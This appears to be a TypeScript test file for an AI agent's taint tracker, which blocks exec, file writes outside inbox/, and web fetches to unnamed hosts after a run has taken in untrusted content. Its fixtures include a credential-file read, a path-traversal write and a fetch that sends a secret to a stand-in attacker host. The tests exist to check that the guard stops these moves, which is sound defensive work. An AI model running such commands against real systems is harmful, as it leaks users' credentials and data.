import { describe, expect, it } from "vitest";
import type { TaintSource } from "../core/domain.ts";
import { DEFAULT_TAINT_GUARDED, taintPolicySchema } from "../core/safety-config.ts";
import { MAX_TAINT_SOURCES, mergeTaint } from "../core/taint-sources.ts";
import { createTaintTracker, hostsIn, matchesToolEntry } from "./taint.ts";
import type { GuardedCall } from "./tool.ts";

const WEB: TaintSource = { kind: "web", label: "web_fetch https://evil.example/page", at: 1 };
const call = (name: string, args: Record<string, unknown> = {}, group: GuardedCall["group"] = "runtime"): GuardedCall => ({ name, group, args });

function tracker(initial: TaintSource[], over: Partial<Parameters<typeof createTaintTracker>[0]> = {}) {
  const persisted: TaintSource[][] = [];
  const t = createTaintTracker({
    initial, policy: () => taintPolicySchema.parse({}), persist: async (s) => void persisted.push(s), now: () => 99, workspace: "/ws", ...over,
  });
  return { t, persisted };
}

describe("taint tracker", () => {
  it("guards nothing while the run is clean", () => {
    const { t } = tracker([]);
    for (const name of ["exec", "write", "web_fetch", "spawn_agent"]) expect(t.taintReason(call(name, { url: "https://x.example" }))).toBeUndefined();
    expect(t.taintSources()).toEqual([]);
  });

  it("names the first source for a guarded call, and leaves unguarded tools alone", () => {
    const { t } = tracker([WEB, { kind: "message", label: "telegram group message from 8", at: 2 }]);
    expect(t.taintReason(call("exec", { command: "cat ~/.pincer/auth.json" }))).toBe("the run holds untrusted content (web_fetch https://evil.example/page and 1 more)");
    expect(t.taintReason(call("read", { path: "AGENTS.md" }, "fs"))).toBeUndefined();
    expect(t.taintReason(call("memory_search", {}, "memory"))).toBeUndefined();
    expect(t.taintReason(call("mcp__github__create_issue", {}, "mcp"))).toMatch(/^the run holds untrusted content/);
  });

  it("lets write and edit reach inbox/ only", () => {
    const { t } = tracker([WEB]);
    expect(t.taintReason(call("write", { path: "inbox/notes.txt" }, "fs"))).toBeUndefined();
    expect(t.taintReason(call("edit", { path: "/ws/inbox/a/b.md" }, "fs"))).toBeUndefined();
    expect(t.taintReason(call("write", { path: "inbox/../AGENTS.md" }, "fs"))).toBeDefined();
    expect(t.taintReason(call("write", { path: "inbox" }, "fs"))).toBeDefined();
    expect(t.taintReason(call("write", { path: "/elsewhere/inbox/x" }, "fs"))).toBeDefined();
    expect(t.taintReason(call("edit", { path: "SOUL.md" }, "fs"))).toBeDefined();
  });

  it("holds web_fetch to a host no trusted input named (exfiltration), not to one the owner named", () => {
    const { t } = tracker([WEB], { trustedHosts: hostsIn("please read https://docs.example.org/guide and www.news.example") });
    expect(t.taintReason(call("web_fetch", { url: "https://docs.example.org/other?q=1" }, "web"))).toBeUndefined();
    expect(t.taintReason(call("web_fetch", { url: "http://news.example/" }, "web"))).toBeUndefined();
    expect(t.taintReason(call("web_fetch", { url: "https://collect.attacker.example/?k=secret" }, "web")))
      .toBe("possible exfiltration to collect.attacker.example: the run holds untrusted content from web_fetch https://evil.example/page");
    expect(t.taintReason(call("web_fetch", { url: "not a url" }, "web"))).toMatch(/^possible exfiltration to an unreadable URL/);
  });

  it("follows policy.taint.guarded: names, groups, patterns, MCP safe tools", () => {
    const policy = taintPolicySchema.parse({ guarded: ["group:fs", "mcp__github__*"] });
    const { t } = tracker([WEB], { policy: () => policy, isSafeTool: (n) => n === "mcp__github__get_issue" });
    expect(t.taintReason(call("exec"))).toBeUndefined();
    expect(t.taintReason(call("read", {}, "fs"))).toBeDefined();
    expect(t.taintReason(call("mcp__github__create_issue", {}, "mcp"))).toBeDefined();
    expect(t.taintReason(call("mcp__github__get_issue", {}, "mcp"))).toBeUndefined();
    expect(t.taintReason(call("mcp__notes__add", {}, "mcp"))).toBeUndefined();
    expect(DEFAULT_TAINT_GUARDED).toContain("group:mcp");
    expect(matchesToolEntry("mcp__*__delete", call("mcp__a__delete", {}, "mcp"))).toBe(true);
    expect(matchesToolEntry("mcp__a.b", call("mcp__aXb", {}, "mcp"))).toBe(false);
  });

  it("records a new source once, persisted in order, and a clean run becomes guarded", async () => {
    const { t, persisted } = tracker([]);
    t.noteUntrusted({ kind: "web", label: "web_fetch https://a.example/", at: 0 });
    t.noteUntrusted({ kind: "web", label: "web_fetch https://a.example/", at: 5 });
    t.noteUntrusted({ kind: "mcp", label: "mcp server notes: search", at: 7 });
    await t.settled();
    expect(persisted).toEqual([
      [{ kind: "web", label: "web_fetch https://a.example/", at: 99 }],
      [{ kind: "web", label: "web_fetch https://a.example/", at: 99 }, { kind: "mcp", label: "mcp server notes: search", at: 7 }],
    ]);
    expect(t.taintReason(call("exec"))).toBe("the run holds untrusted content (web_fetch https://a.example/ and 1 more)");
  });

  it("keeps the oldest and newest sources past the cap, and survives a failing store", async () => {
    const many = Array.from({ length: 30 }, (_, i): TaintSource => ({ kind: "web", label: `web_fetch https://h${i}.example/`, at: i }));
    const merged = mergeTaint(many);
    expect(merged).toHaveLength(MAX_TAINT_SOURCES);
    expect(merged[0]!.label).toContain("h0.");
    expect(merged.at(-1)!.label).toContain("h29.");
    const errors: unknown[] = [];
    const { t } = tracker([], { persist: () => Promise.reject(new Error("disk full")), onPersistError: (e) => errors.push(e) });
    t.noteUntrusted(WEB);
    await t.settled();
    expect(errors).toHaveLength(1);
    expect(t.taintSources()).toEqual([WEB]);
  });
});

describe("hostsIn", () => {
  it("finds URL hosts and bare domains, not file names or e-mail domains", () => {
    expect([...hostsIn("fetch https://Example.COM/a, http://[::1]:8080/x and docs.python.org; see notes.md, report.pdf, me@mail.example")].sort())
      .toEqual(["::1", "docs.python.org", "example.com"]);
  });
});
